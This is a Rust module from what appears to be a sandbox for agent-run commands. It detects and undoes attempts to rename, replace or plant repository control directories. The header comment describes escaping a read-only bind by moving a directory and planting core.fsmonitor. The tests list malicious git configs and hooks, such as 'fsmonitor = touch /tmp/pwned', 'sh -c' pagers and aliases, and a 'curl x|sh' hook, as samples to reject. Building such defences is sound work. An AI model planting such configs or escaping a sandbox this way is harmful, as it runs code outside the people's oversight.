//! The workspace's control entries ([`super::PROTECTED_IN_WORKSPACE`] at the root and in
//! nested repositories) recognised by what they are, not only by their name at one moment.
//!
//! bubblewrap binds each control entry read-only onto itself, but a bind follows the
//! directory, not its name: a command that renamed `vendor/lib` and copied it back had a
//! writable `vendor/lib/.git` under the old name, and the person's next `git status` there ran
//! the `core.fsmonitor` it planted. Two measures close that class:
//!
//! - **Prevention** ([`Protected::ancestors`]): every real directory between the workspace and a
//!   control entry is bound onto itself (writable), which makes it a mount point; the kernel
//!   refuses to rename or remove a mount point (`EBUSY`), so no command can move a control
//!   entry's parent away, replace it by a link or recreate it. Its files stay writable.
//! - **Detection** ([`Protected::settle`]): what a bind cannot hold — a control entry or a parent
//!   that is a symbolic link (a link is a name in a writable directory, not a mount point), and
//!   a control entry the command created where none was — is found after the command ends, by
//!   comparing the identity (`lstat`: device, inode, a link's target) of each entry and its
//!   parents with the record taken before it started, and walking for new entries. A replaced
//!   link is put back as it was; what the command left in its place, and a new control entry
//!   that could run code, is set aside under a name no tool reads (`.git.keel-set-aside-…`),
//!   and the command's result says so. A new repository as `git init` or `git clone` make it
//!   (only the settings git writes itself, only sample hooks) is kept, and protected from the
//!   next command on; new `.keel`, `.claude/skills` and `.claude/hooks` entries are kept, since
//!   keel asks the person about their content before it uses them (memory, skills and hooks
//!   approvals by digest).
//!
//! The identity check is a few `lstat`s per entry; the walk is the bounded one the binds
//! already use ([`super::control::nested_control_dirs`]).

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use super::PROTECTED_IN_WORKSPACE;
use super::control::nested_control_dirs;

/// What `lstat` says an entry is: its device and inode, and a link's target (a link's own
/// identity, never what it points to).
#[derive(Debug, Clone, PartialEq, Eq)]
struct Identity {
    dev: u64,
    ino: u64,
    link: Option<PathBuf>,
}

fn identity(path: &Path) -> Option<Identity> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    let link = if meta.file_type().is_symlink() {
        Some(std::fs::read_link(path).ok()?)
    } else {
        None
    };
    Some(Identity {
        dev: meta.dev(),
        ino: meta.ino(),
        link,
    })
}

/// The control entries of a workspace as a command starts, with the identity of each and of
/// every directory between it and the workspace.
#[derive(Debug, Clone)]
pub(crate) struct Protected {
    workspace: PathBuf,
    /// Whether nested repositories were looked for (the workspace is writable).
    nested: bool,
    entries: Vec<PathBuf>,
    /// Where the entries reached through a link really are (inside the workspace).
    real: Vec<PathBuf>,
    /// Each entry and each of its parents below the workspace, with what `lstat` found.
    chain: BTreeMap<PathBuf, Option<Identity>>,
}

impl Protected {
    /// The control entries of `workspace` now: the root's by name, and with `nested` (the
    /// workspace is writable) those of repositories nested in it.
    pub(crate) fn find(workspace: &Path, nested: bool) -> Protected {
        let mut entries: Vec<PathBuf> = PROTECTED_IN_WORKSPACE
            .iter()
            .map(|dir| workspace.join(dir))
            .filter(|p| std::fs::symlink_metadata(p).is_ok())
            .collect();
        if nested {
            entries.extend(nested_control_dirs(workspace));
        }
        // An entry reached through a link (`.claude` → `tooling/claude`) is held where it
        // really is, so the parents of its real place are guarded too.
        let real: Vec<PathBuf> = entries
            .iter()
            .filter_map(|e| e.canonicalize().ok())
            .filter(|r| r.starts_with(workspace) && !entries.contains(r))
            .collect();
        let mut chain = BTreeMap::new();
        for entry in entries.iter().chain(&real) {
            let mut at = entry.as_path();
            while at != workspace && at.starts_with(workspace) {
                chain
                    .entry(at.to_path_buf())
                    .or_insert_with(|| identity(at));
                let Some(parent) = at.parent() else { break };
                at = parent;
            }
        }
        Protected {
            workspace: workspace.to_path_buf(),
            nested,
            entries,
            real,
            chain,
        }
    }

    /// The control entries, each to be bound read-only (what exists of them).
    pub(crate) fn entries(&self) -> &[PathBuf] {
        &self.entries
    }

    /// The real directories (not links) between the workspace and the control entries,
    /// shallowest first: each is bound onto itself, so none can be renamed or removed.
    pub(crate) fn ancestors(&self) -> Vec<&Path> {
        let entries: BTreeSet<&Path> = self
            .entries
            .iter()
            .chain(&self.real)
            .map(PathBuf::as_path)
            .collect();
        let mut dirs: Vec<&Path> = self
            .chain
            .iter()
            .filter(|(path, id)| {
                !entries.contains(path.as_path())
                    && id.as_ref().is_some_and(|id| id.link.is_none())
                    && std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir())
            })
            .map(|(path, _)| path.as_path())
            .collect();
        dirs.sort_by_key(|p| p.components().count());
        dirs
    }

    /// After the command: put back what it replaced, set aside what it planted, and say so
    /// (one sentence each, for the command's result). Empty when nothing changed, which is
    /// what every command but a hostile one finds.
    pub(crate) fn settle(&self) -> Vec<String> {
        let mut notes = Vec::new();
        let mut handled: Vec<PathBuf> = Vec::new();
        // Parents before children (a path sorts before what it holds): the topmost change
        // is the one to undo.
        for (path, before) in &self.chain {
            if handled.iter().any(|h| path.starts_with(h)) {
                continue;
            }
            let now = identity(path);
            if now == *before {
                continue;
            }
            handled.push(path.clone());
            notes.push(self.undo_replacement(path, before.as_ref(), now.is_some()));
        }
        let after = Protected::find(&self.workspace, self.nested);
        for entry in after.entries() {
            if self.entries.contains(entry) || handled.iter().any(|h| entry.starts_with(h)) {
                continue;
            }
            if let Some(note) = self.judge_new(entry) {
                notes.push(note);
            }
        }
        for note in &notes {
            tracing::warn!("{note}");
        }
        notes
    }

    fn shown(&self, path: &Path) -> String {
        path.strip_prefix(&self.workspace)
            .unwrap_or(path)
            .display()
            .to_string()
    }

    /// `path` (a control entry or one of its parents) is no longer what it was.
    fn undo_replacement(&self, path: &Path, before: Option<&Identity>, exists: bool) -> String {
        let shown = self.shown(path);
        let aside = if exists {
            match set_aside(path) {
                Ok(aside) => format!(
                    "what the command left there is set aside as `{}`",
                    self.shown(&aside)
                ),
                Err(e) => format!("what the command left there could not be set aside ({e})"),
            }
        } else {
            "the command removed it".to_owned()
        };
        match before.and_then(|id| id.link.as_ref()) {
            Some(target) => {
                let restored = match std::os::unix::fs::symlink(target, path) {
                    Ok(()) => "the link is put back as it was".to_owned(),
                    Err(e) => format!("the link could not be put back ({e})"),
                };
                format!(
                    "keel: the command replaced `{shown}`, a link on the way to a repository's \
                     control directory (whose content runs outside the sandbox): {aside}, and \
                     {restored}. Do not move or replace control directories or their parents"
                )
            }
            None => format!(
                "keel: the command moved or replaced `{shown}`, on the way to a repository's \
                 control directory (whose content runs outside the sandbox): {aside}; the \
                 original is wherever the command moved it. Do not move or replace control \
                 directories or their parents"
            ),
        }
    }

    /// A control entry the command created: kept when it cannot run anything the person has
    /// not seen, set aside otherwise.
    fn judge_new(&self, entry: &Path) -> Option<String> {
        let shown = self.shown(entry);
        if new_entry_is_inert(entry) {
            return None;
        }
        Some(match set_aside(entry) {
            Ok(aside) => format!(
                "keel: the command created `{shown}`, a control directory whose content would \
                 run outside the sandbox (settings or hooks git does not write itself); it is \
                 set aside as `{}` and nothing runs it. Do not write repositories' control \
                 directories; tell the person what you meant to set up",
                self.shown(&aside)
            ),
            Err(e) => format!(
                "keel: the command created `{shown}`, a control directory whose content would \
                 run outside the sandbox, and keel could not set it aside ({e}): tell the \
                 person to remove it before running git there"
            ),
        })
    }
}

/// Whether a control entry a command created can be kept: keel's own folders and Claude
/// Code's skills and hooks (keel asks the person about their content before using it), and a
/// repository as git makes it.
fn new_entry_is_inert(entry: &Path) -> bool {
    let name = entry
        .file_name()
        .map(|n| n.to_string_lossy().to_ascii_lowercase())
        .unwrap_or_default();
    let parent = entry
        .parent()
        .and_then(Path::file_name)
        .map(|n| n.to_string_lossy().to_ascii_lowercase());
    match name.as_str() {
        ".keel" => true,
        "skills" | "hooks" if parent.as_deref() == Some(".claude") => true,
        ".git" => git_dir_is_inert(entry),
        _ => false,
    }
}

/// The settings `git init` and `git clone` write themselves: none of them runs a program.
const GIT_SETTINGS: &[&str] = &[
    "core.repositoryformatversion",
    "core.filemode",
    "core.bare",
    "core.logallrefupdates",
    "core.ignorecase",
    "core.precomposeunicode",
    "core.symlinks",
    "init.defaultbranch",
    "extensions.objectformat",
];

/// Whether a `.git` a command made is a repository as git makes it: a real directory (not a
/// `gitdir:` file or a link pointing elsewhere), no `commondir` naming another repository's
/// settings, no link at its top, a `config` holding only [`GIT_SETTINGS`] and a remote's or
/// branch's plain fields, and hooks that are only git's samples.
fn git_dir_is_inert(dir: &Path) -> bool {
    let Ok(meta) = std::fs::symlink_metadata(dir) else {
        return true;
    };
    if !meta.is_dir() {
        return false;
    }
    let Ok(entries) = std::fs::read_dir(dir) else {
        return false;
    };
    for entry in entries.flatten() {
        let Ok(kind) = entry.file_type() else {
            return false;
        };
        let name = entry.file_name();
        if kind.is_symlink() || name == "commondir" || name == "config.worktree" {
            return false;
        }
    }
    let hooks = dir.join("hooks");
    if let Ok(entries) = std::fs::read_dir(&hooks) {
        for entry in entries.flatten() {
            let name = entry.file_name();
            let sample = name.to_string_lossy().ends_with(".sample")
                && entry.file_type().is_ok_and(|k| k.is_file());
            if !sample {
                return false;
            }
        }
    }
    match std::fs::read(dir.join("config")) {
        Ok(text) if text.len() <= 64 * 1024 => git_config_is_inert(&String::from_utf8_lossy(&text)),
        Ok(_) => false,
        Err(e) => e.kind() == std::io::ErrorKind::NotFound,
    }
}

/// Whether a git config text sets nothing but [`GIT_SETTINGS`] and `remote.*.{url,fetch}`,
/// `branch.*.{remote,merge}` (read conservatively: anything unusual counts as not inert).
fn git_config_is_inert(text: &str) -> bool {
    let mut section = String::new();
    for raw in text.lines() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        if let Some(header) = line.strip_prefix('[') {
            let Some(header) = header.strip_suffix(']') else {
                return false;
            };
            let kind = header.split_whitespace().next().unwrap_or("");
            section = kind.to_ascii_lowercase();
            if header.contains('\\') {
                return false;
            }
            continue;
        }
        if line.ends_with('\\') {
            return false;
        }
        let key = line
            .split('=')
            .next()
            .unwrap_or("")
            .trim()
            .to_ascii_lowercase();
        let allowed = match section.as_str() {
            "remote" => matches!(key.as_str(), "url" | "fetch"),
            "branch" => matches!(key.as_str(), "remote" | "merge"),
            _ => GIT_SETTINGS.contains(&format!("{section}.{key}").as_str()),
        };
        if !allowed {
            return false;
        }
    }
    true
}

/// Move `path` aside to a name beside it that no tool reads (`.git` → `.git.keel-set-aside-N`),
/// and inside it, what a program would still find and run there (a git directory's `config`,
/// `hooks` and `commondir`, an `hgrc`), so the set-aside copy is inert too.
fn set_aside(path: &Path) -> std::io::Result<PathBuf> {
    let name = path
        .file_name()
        .ok_or_else(|| std::io::Error::other("no name"))?
        .to_string_lossy()
        .into_owned();
    let parent = path
        .parent()
        .ok_or_else(|| std::io::Error::other("no parent"))?;
    let stamp = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0);
    let mut aside = parent.join(format!("{name}.keel-set-aside-{stamp}"));
    let mut n = 1;
    while std::fs::symlink_metadata(&aside).is_ok() {
        n += 1;
        aside = parent.join(format!("{name}.keel-set-aside-{stamp}-{n}"));
    }
    std::fs::rename(path, &aside)?;
    if std::fs::symlink_metadata(&aside).is_ok_and(|m| m.is_dir()) {
        for inner in ["config", "hooks", "commondir", "hgrc"] {
            let from = aside.join(inner);
            if std::fs::symlink_metadata(&from).is_ok() {
                std::fs::rename(&from, aside.join(format!("{inner}.keel-set-aside")))?;
            }
        }
    }
    Ok(aside)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_config_git_writes_is_inert_and_one_that_runs_a_program_is_not() {
        let init = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\
                    \tlogallrefupdates = true\n";
        assert!(git_config_is_inert(init));
        let clone = format!(
            "{init}[remote \"origin\"]\n\turl = https://example.com/r.git\n\
             \tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\
             \tremote = origin\n\tmerge = refs/heads/main\n"
        );
        assert!(git_config_is_inert(&clone));
        for planted in [
            "[core]\n\tfsmonitor = touch /tmp/pwned\n",
            "[core]\n\thooksPath = .githooks\n",
            "[CORE]\n\tFsMonitor = x\n",
            "[core]\n\tpager = sh -c x\n",
            "[alias]\n\tst = !sh -c x\n",
            "[include]\n\tpath = ../evil\n",
            "[includeIf \"gitdir:/\"]\n\tpath = ../evil\n",
            "[filter \"x\"]\n\tclean = sh -c x\n",
            "[remote \"o\"]\n\tuploadpack = sh -c x\n",
            "[core]\n\trepositoryformatversion = 0\\\n\tfsmonitor = x\n",
            "[remote.o]\n\tuploadpack = sh -c x\n",
            "[core] fsmonitor = x\n",
        ] {
            assert!(!git_config_is_inert(planted), "{planted}");
        }
    }

    #[test]
    fn a_new_git_directory_with_a_real_hook_or_a_redirect_is_not_inert() -> std::io::Result<()> {
        let dir = tempfile::tempdir()?;
        let git = dir.path().join(".git");
        std::fs::create_dir_all(git.join("hooks"))?;
        std::fs::write(git.join("config"), "[core]\n\tbare = false\n")?;
        std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\n")?;
        assert!(git_dir_is_inert(&git));
        std::fs::write(git.join("hooks/post-checkout"), "#!/bin/sh\ncurl x|sh\n")?;
        assert!(!git_dir_is_inert(&git));
        std::fs::remove_file(git.join("hooks/post-checkout"))?;
        std::fs::write(git.join("commondir"), "../../elsewhere\n")?;
        assert!(!git_dir_is_inert(&git));
        std::fs::remove_file(git.join("commondir"))?;
        std::fs::remove_file(git.join("config"))?;
        std::os::unix::fs::symlink("../notes.txt", git.join("config"))?;
        assert!(
            !git_dir_is_inert(&git),
            "a config linked to a writable file"
        );
        let file = dir.path().join("wt/.git");
        std::fs::create_dir_all(dir.path().join("wt"))?;
        std::fs::write(&file, "gitdir: ../evil\n")?;
        assert!(
            !git_dir_is_inert(&file),
            "a gitdir file names settings elsewhere"
        );
        Ok(())
    }
}
